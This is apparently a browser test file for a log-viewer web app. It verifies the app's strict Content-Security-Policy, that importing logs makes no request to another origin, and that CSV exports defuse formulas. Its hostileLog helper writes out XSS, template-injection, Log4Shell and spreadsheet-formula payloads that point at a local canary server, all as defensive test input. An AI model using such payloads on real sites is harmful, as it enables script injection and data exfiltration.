// No egress (SPEC §7): the built page carries a strict Content-Security-Policy, importing and exploring
// makes no request to another origin and breaks no rule of the policy, and the policy is in force in the
// page and in its worker (where logs are read and fetched): a request to another origin is refused.
//
// The policy lets the page connect to https: anywhere and to http://localhost and http://127.0.0.1
// (any port), for logs the user asks to stream from a URL (svelte.config.js says why); the page never
// does so on its own. "Another origin" is real here: a second local server (the canary) on another
// port, reached by the name canary.localhost (Chromium resolves *.localhost to this machine), which the
// policy does not allow. Log lines point at it (referrers, user agents, paths carrying <img>/<script>
// tags and URLs); it must never be asked for anything. Needs build/ (`npm run build`) and Chromium.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page, Worker } from 'playwright-core';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, rmSync, writeFileSync, readFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parseCsv, REQUEST_COLUMNS } from '../../src/lib/csv';
import { SAMPLE, SHARED, cliSessions, confirmImport, fileInput, keepEverything, launchBrowser, readTotal, showTab, startSite, waitForTotal, watchErrors } from './browser';

const REAL = path.join(SHARED, 'access/logparser/hackers-access.log');
const UPLOAD = existsSync(REAL) ? REAL : SAMPLE;
/** Real attack traffic with <script> in its paths and agents (SOURCES.md), when ../shared/data is there. */
const HONEYNET = path.join(SHARED, 'access/honeynet-2004/honeynet-redhat71_httpd_access_log_2004-04-21_to_2004-10-11.log.gz');

/** The policy kit.csp writes (svelte.config.js), directive by directive; script-src also gets the start-up script's hash. */
const EXPECTED: Record<string, string[]> = {
  'default-src': ["'self'"],
  'script-src': ["'self'", "'wasm-unsafe-eval'"],
  'worker-src': ["'self'", 'blob:'],
  // 'self', and for "Stream from URL" only: https anywhere, plain http from this machine.
  'connect-src': ["'self'", 'https:', 'http://localhost:*', 'http://127.0.0.1:*'],
  'style-src': ["'self'"],
  // Exactly one style attribute: SvelteKit's route announcer's (checked against the live page below).
  'style-src-attr': ["'unsafe-hashes'", "'sha256-S8qMpvofolR8Mpjy4kQvEm7m1q8clzU4dfDH0AmvZjo='"],
  'img-src': ["'self'", 'data:'],
  'font-src': ["'self'"],
  'manifest-src': ["'self'"],
  'object-src': ["'none'"],
  'base-uri': ["'self'"],
  'form-action': ["'none'"]
};

interface Violation {
  where: string;
  directive: string;
  blocked: string;
  source: string;
}

/** Collects the page's `securitypolicyviolation` events, from before any script of the page runs. */
const RECORD_VIOLATIONS = () => {
  const w = window as unknown as { __violations: unknown[] };
  w.__violations = [];
  document.addEventListener('securitypolicyviolation', (e) => {
    w.__violations.push({
      where: 'page',
      directive: e.effectiveDirective,
      blocked: e.blockedURI,
      source: `${e.sourceFile}:${e.lineNumber} ${e.sample}`
    });
  });
};

let site: { url: string; close: () => Promise<void> };
let canary: { url: string; hits: string[]; close: () => Promise<void> };
let browser: Browser;
let context: BrowserContext;
let page: Page;
let errors: string[];
let requests: { url: string; from: string }[];
let cspConsole: string[];
let tmp: string;

/** A server on another origin that records every request it gets (there must be none). */
async function startCanary(): Promise<typeof canary> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Content-Type': 'text/plain', 'Access-Control-Allow-Origin': '*' });
    res.end('canary');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  // Another host as well as another port, and one the policy does not allow (localhost would be).
  return {
    url: `http://canary.localhost:${port}/`,
    hits,
    close: () => new Promise<void>((resolve) => (server.closeAllConnections(), server.close(() => resolve())))
  };
}

/** A combined log whose every untrusted field points at the canary, as links, tags and script. */
function hostileLog(canaryUrl: string): string {
  const c = canaryUrl.replace(/\/$/, '');
  const lines: string[] = [];
  const ips = ['203.0.113.7', '198.51.100.23', '192.0.2.44'];
  const paths = [
    `/search?q=<script src=${c}/q.js></script>`,
    `/img?src=<img src=${c}/i.png onerror=fetch('${c}/onerror')>`,
    `/go?next=javascript:fetch('${c}/js')`,
    `/page/${encodeURIComponent(`<iframe src=${c}/frame>`)}`,
    `/api/v1/items?id={{constructor.constructor('fetch(\\'${c}/tpl\\')')()}}`,
    `/static/${c.replace('http://', '')}/style.css`,
    `/x?<img src=x onerror="window.__pwned=1;document.title='pwned'">`,
    '/index.html'
  ];
  const agents = [
    `Mozilla/5.0 <img src=${c}/ua.png>`,
    `<link rel=stylesheet href=${c}/ua.css>`,
    `curl/8.0 <svg onload=fetch('${c}/svg')>`,
    `\${jndi:ldap://${c.replace('http://', '')}/a}`,
    `=HYPERLINK("${c}/csv","click")`,
    `{{constructor.constructor('window.__pwned=2')()}}`
  ];
  const refs = [`${c}/referrer`, `javascript:fetch('${c}/ref')`, `<a href=${c}/a>x</a>`, '-'];
  for (let i = 0; i < 90; i++) {
    const ip = ips[i % ips.length];
    const min = String(10 + Math.floor(i / 3)).padStart(2, '0');
    const sec = String((i * 7) % 60).padStart(2, '0');
    const p = paths[i % paths.length].replace(/ /g, '%20');
    const status = [200, 404, 302, 500][i % 4];
    lines.push(
      `${ip} - - [10/Oct/2023:13:${min}:${sec} +0000] "GET ${p} HTTP/1.1" ${status} ${100 + i} "${refs[i % refs.length]}" "${agents[i % agents.length]}"`
    );
  }
  return lines.join('\n') + '\n';
}

async function violations(): Promise<Violation[]> {
  const fromPage = await page.evaluate(() => (window as unknown as { __violations?: Violation[] }).__violations ?? []);
  return [...fromPage, ...cspConsole.map((text) => ({ where: 'console', directive: '', blocked: '', source: text }))];
}

/** The analysis worker (started from a blob: URL, see src/lib/worker-start.ts). */
async function analysisWorker(): Promise<Worker> {
  await expect.poll(() => page.workers().length, { timeout: 30_000 }).toBeGreaterThan(0);
  return page.workers()[0];
}

beforeAll(async () => {
  site = await startSite();
  canary = await startCanary();
  browser = await launchBrowser();
  tmp = mkdtempSync(path.join(tmpdir(), 'sessionlens-privacy-'));
});

afterAll(async () => {
  await browser?.close();
  await site?.close();
  await canary?.close();
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

beforeEach(async () => {
  // No bypassCSP: the policy is enforced as a visitor's browser would.
  context = await browser.newContext();
  requests = [];
  cspConsole = [];
  // Every request of the pages, their workers and the service worker, as Chromium sends it.
  context.on('request', (r) => {
    let from = 'service worker';
    if (!r.serviceWorker()) {
      try {
        from = r.frame() ? 'page' : 'worker';
      } catch {
        from = 'worker';
      }
    }
    requests.push({ url: r.url(), from });
  });
  await context.addInitScript(RECORD_VIOLATIONS);
  page = await context.newPage();
  errors = watchErrors(page);
  page.on('console', (m) => {
    if (/content.security.policy/i.test(m.text())) cspConsole.push(m.text());
  });
  await page.goto(site.url);
});

afterEach(async () => {
  await context?.close();
  expect(canary.hits, 'requests that reached the other origin').toEqual([]);
});

function parsePolicy(content: string): Map<string, string[]> {
  const policy = new Map<string, string[]>();
  for (const part of content.split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (!name) continue;
    expect(policy.has(name.toLowerCase()), `directive ${name} given twice`).toBe(false);
    policy.set(name.toLowerCase(), values);
  }
  return policy;
}

describe('Content-Security-Policy', () => {
  for (const file of ['index.html', '200.html']) {
    it(`the served ${file} carries the strict policy, first in <head>, with the start-up script allowed by its hash`, async () => {
      const res = await fetch(new URL(file === 'index.html' ? './' : file, site.url));
      expect(res.status).toBe(200);
      const html = await res.text();

      const metas = [...html.matchAll(/<meta\s+http-equiv="content-security-policy"\s+content="([^"]*)"\s*\/?>/gi)];
      expect(metas, 'exactly one CSP <meta> (the hand-written one is gone)').toHaveLength(1);
      const meta = metas[0];
      const content = meta[1].replace(/&#39;|&apos;/g, "'").replace(/&quot;/g, '"').replace(/&amp;/g, '&');

      // A <meta> policy only covers what comes after it: nothing may load before it.
      const head = html.slice(html.indexOf('<head'), html.indexOf('</head>'));
      const before = head.slice(0, head.indexOf(meta[0]));
      expect(before, 'a link, script or style before the policy').not.toMatch(/<(link|script|style|base)\b/i);

      const policy = parsePolicy(content);
      const { 'script-src': _script, ...rest } = EXPECTED;
      for (const [name, values] of Object.entries(rest)) expect(policy.get(name), name).toEqual(values);

      const script = policy.get('script-src') ?? [];
      const hashes = script.filter((v) => /^'sha256-[A-Za-z0-9+/]+=*'$/.test(v));
      expect(script.filter((v) => !hashes.includes(v))).toEqual(EXPECTED['script-src']);
      for (const v of ["'unsafe-inline'", "'unsafe-eval'", "'strict-dynamic'", '*', 'data:', 'blob:', 'http:', 'https:']) {
        expect(script, `script-src must not allow ${v}`).not.toContain(v);
      }
      for (const name of ['style-src', 'style-src-attr', 'default-src', 'connect-src', 'img-src']) {
        expect(policy.get(name), `${name} must not allow 'unsafe-inline'`).not.toContain("'unsafe-inline'");
      }
      // A streamed log may come over https, or plain http from this machine only: never plain http
      // across the network, never any scheme at all.
      for (const v of ['*', 'http:', 'http://*', 'data:', 'blob:', 'ws:', 'wss:']) {
        expect(policy.get('connect-src'), `connect-src must not allow ${v}`).not.toContain(v);
      }
      // frame-ancestors, report-uri and sandbox do nothing in a <meta>: not pretended here.
      expect(policy.has('frame-ancestors')).toBe(false);

      // Each inline script is allowed by its own hash, and nothing else is inline.
      const inline = [...html.matchAll(/<script(\s[^>]*)?>([\s\S]*?)<\/script>/gi)];
      expect(inline.length).toBeGreaterThan(0);
      for (const [, attrs = '', body] of inline) {
        expect(attrs, 'no src: all code but the start-up script is loaded as modules from the site').not.toMatch(/\bsrc=/);
        const hash = `'sha256-${createHash('sha256').update(body).digest('base64')}'`;
        expect(hashes, 'the inline script is allowed by its hash').toContain(hash);
      }
      expect(hashes).toHaveLength(inline.length);
      expect(html, 'an inline event handler attribute').not.toMatch(/<[^>]+\son[a-z]+\s*=/i);
      expect(html, 'an inline style').not.toMatch(/<style\b|\sstyle\s*=/i);
      expect(html, 'a javascript: URL').not.toMatch(/javascript:/i);
    });
  }

  it('the page runs under it: its policy is the built one and nothing was refused at start', async () => {
    await page.locator('[data-testid="session-total"], [data-testid="sessions-empty"]').first().waitFor({ timeout: 30_000 });
    const content = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
    const policy = parsePolicy(content ?? '');
    expect(policy.get('connect-src')).toEqual(EXPECTED['connect-src']);
    // The style attribute the policy allows by hash is the announcer's, as this SvelteKit writes it.
    const style = await page.locator('#svelte-announcer').getAttribute('style');
    expect(style).toBeTruthy();
    expect(policy.get('style-src-attr')).toContain(`'sha256-${createHash('sha256').update(style!).digest('base64')}'`);
    expect(await violations()).toEqual([]);
    expect(errors).toEqual([]);
  });
});

describe('no egress', () => {
  it('importing a log (file input), a hostile log and the sample, and visiting every section, asks nothing of another origin and breaks no rule', async () => {
    const origin = new URL(site.url).origin;
    const hostile = path.join(tmp, 'hostile-access.log');
    writeFileSync(hostile, hostileLog(canary.url));

    // logs of 2015 and 2024 and today: keep every day
    await keepEverything(page);
    // A real log through the file input, the preview, Import.
    await fileInput(page).setInputFiles(UPLOAD);
    await confirmImport(page);
    const first = await waitForTotal(page);
    await expect.poll(() => readTotal(page), { timeout: 30_000 }).toBe(cliSessions(UPLOAD));

    // A log whose every untrusted field points at the other origin.
    await fileInput(page).setInputFiles(hostile);
    await confirmImport(page);
    await waitForTotal(page, first);
    const second = (await readTotal(page))!;

    // Real attack traffic: honeynet-2004's <script> and worse, when the shared data is there.
    let third = second;
    if (existsSync(HONEYNET)) {
      await fileInput(page).setInputFiles(HONEYNET);
      await confirmImport(page);
      third = await waitForTotal(page, second);
    }

    // The bundled sample, fetched by the worker.
    await page.getByRole('button', { name: /Try sample data/ }).click();
    await waitForTotal(page, third);

    await visitSections(page);
    // ...and with the sessions of honeynet-2004 that carry a script payload listed first.
    if (existsSync(HONEYNET)) {
      await page.locator('[data-testid="filter-attack"]').selectOption('xss');
      await page.locator('[data-testid="session-open"]').first().waitFor({ timeout: 30_000 });
      await visitSections(page);
      await page.locator('[data-testid="filter-attack"]').selectOption('');
    }


    // The recorder sees the worker's traffic too: the core and the sample were fetched from the site.
    const urls = requests.map((r) => r.url);
    expect(urls.some((u) => /\/workers\/assets\/core-[^/]*\.wasm$/.test(u)), 'the core .wasm among the requests').toBe(true);
    expect(urls.some((u) => u.endsWith('/sample/demo-access.log')), 'the sample among the requests').toBe(true);

    const elsewhere = requests.filter((r) => {
      const u = new URL(r.url);
      // blob: URLs (the worker's boot module) belong to the page's own origin.
      const o = u.protocol === 'blob:' ? new URL(u.pathname).origin : u.origin;
      return o !== origin;
    });
    expect(elsewhere, 'requests to another origin').toEqual([]);
    expect(await violations(), 'Content-Security-Policy violations').toEqual([]);

    // Nothing from the logs ran: the payloads that would set a global or rename the page did not.
    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(await page.title()).toBe('SessionLens');
    // No inline event handler anywhere in the live page, and no element from the logs became markup.
    const handlers = await page.evaluate(() =>
      [...document.querySelectorAll('*')].flatMap((el) =>
        [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `<${el.localName} ${a.name}>`)
      )
    );
    expect(handlers).toEqual([]);
    expect(await page.locator('main iframe, main img, main script, main svg[onload], main link').count()).toBe(0);
    expect(errors).toEqual([]);
  });
});

describe('the policy is in force', () => {
  it('the canary is reachable from this browser without the policy: the refusals below are the policy’s', async () => {
    const free = await browser.newContext({ bypassCSP: true });
    try {
      const p = await free.newPage();
      await p.goto(site.url);
      const outcome = await p.evaluate((url) => fetch(url).then((r) => r.text(), (e: Error) => `refused: ${e.message}`), `${canary.url}reachable`);
      expect(outcome).toBe('canary');
    } finally {
      await free.close();
    }
    expect(canary.hits).toEqual(['GET /reachable']);
    canary.hits.length = 0; // asked on purpose, outside the page's policy
  });

  it('the page cannot reach another origin: the fetch is refused and reported, the other origin sees nothing', async () => {
    const outcome = await page.evaluate(
      (url) =>
        fetch(url).then(
          () => 'reached',
          () => 'refused'
        ),
      `${canary.url}from-page`
    );
    expect(outcome).toBe('refused');
    await expect
      .poll(async () => (await violations()).filter((v) => v.where === 'page').map((v) => `${v.directive} ${v.blocked}`))
      .toEqual([`connect-src ${canary.url}from-page`]);
    errors.length = 0; // Chromium logs the refusal as a console error: expected here.
  });

  it("the worker runs under the page's policy: it compiles the core ('wasm-unsafe-eval') and cannot reach another origin", async () => {
    const worker = await analysisWorker();
    expect(worker.url(), 'the worker starts from a blob: URL, so it inherits the policy').toMatch(/^blob:/);

    // The core compiles in the worker: a real import works under the policy.
    await fileInput(page).setInputFiles(SAMPLE);
    await confirmImport(page);
    await waitForTotal(page);

    const outcome = await worker.evaluate(
      (url) =>
        fetch(url).then(
          () => 'reached',
          () => 'refused'
        ),
      `${canary.url}from-worker`
    );
    expect(outcome, "a fetch from the worker to another origin (a worker without the page's policy would reach it)").toBe('refused');
    // The worker says so on the page's console (src/worker/worker.ts).
    await expect.poll(() => cspConsole.filter((t) => t.includes('from-worker')).length).toBe(1);
    errors.length = 0;
  });
});


describe('hostile content in exports', () => {
  it("a session's CSV holds spreadsheet formulas from the log as text, not formulas", async () => {
    const hostile = path.join(tmp, 'hostile-csv.log');
    writeFileSync(hostile, hostileLog(canary.url));
    await keepEverything(page);
    await fileInput(page).setInputFiles(hostile);
    await confirmImport(page);
    await waitForTotal(page);
    const formulaRow = page.locator('[data-testid="session-row"]', { hasText: 'HYPERLINK' }).first();
    await formulaRow.locator('[data-testid="session-open"]').click();
    await page.locator('[data-testid="request-row"]').first().waitFor({ timeout: 10_000 });
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid="requests-csv"]').click()]);
    const csv = parseCsv(readFileSync((await download.path())!, 'utf8'));
    const agents = csv.slice(1).map((c) => c[REQUEST_COLUMNS.indexOf('user_agent')]);
    expect(agents.length).toBeGreaterThan(0);
    expect(agents.filter((a) => a.includes('HYPERLINK')).every((a) => a.startsWith(`'=HYPERLINK(`)), JSON.stringify(agents)).toBe(true);
    await page.locator('[data-testid="detail-close"]').click();
    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  });
});

/** Every part of the page a user would look at: a session's detail, the filters, the endpoints, the settings. */
async function visitSections(page: Page): Promise<void> {
  for (const tab of ['endpoints', 'overview', 'settings', 'sessions'] as const) {
    await showTab(page, tab);
    for (const id of ['sessions-table', 'session-filters', 'endpoints-table', 'grouping-settings']) {
      const el = page.locator(`[data-testid="${id}"]`).first();
      if (await el.count()) await el.scrollIntoViewIfNeeded();
    }
  }
  // Open the first sessions' details.
  const open = page.locator('[data-testid="session-open"]');
  const n = Math.min(await open.count(), 5);
  for (let i = 0; i < n; i++) {
    await open.nth(i).click();
    const detail = page.locator('[data-testid="session-detail"]');
    await detail.waitFor({ state: 'visible', timeout: 10_000 });
    await detail.scrollIntoViewIfNeeded();
    // its requests, log content as text (the request table loads after the detail)
    await page.locator('[data-testid="request-row"]').first().waitFor({ timeout: 10_000 });
    const close = page.locator('[data-testid="detail-close"]');
    if (await close.count()) await close.click();
  }
  // Hover what may show a tooltip.
  const titled = page.locator('main [title]');
  const t = Math.min(await titled.count(), 20);
  for (let i = 0; i < t; i++) await titled.nth(i).hover({ timeout: 2_000 }).catch(() => undefined);
  const details = page.locator('main details > summary');
  for (let i = 0; i < (await details.count()); i++) await details.nth(i).click();
}
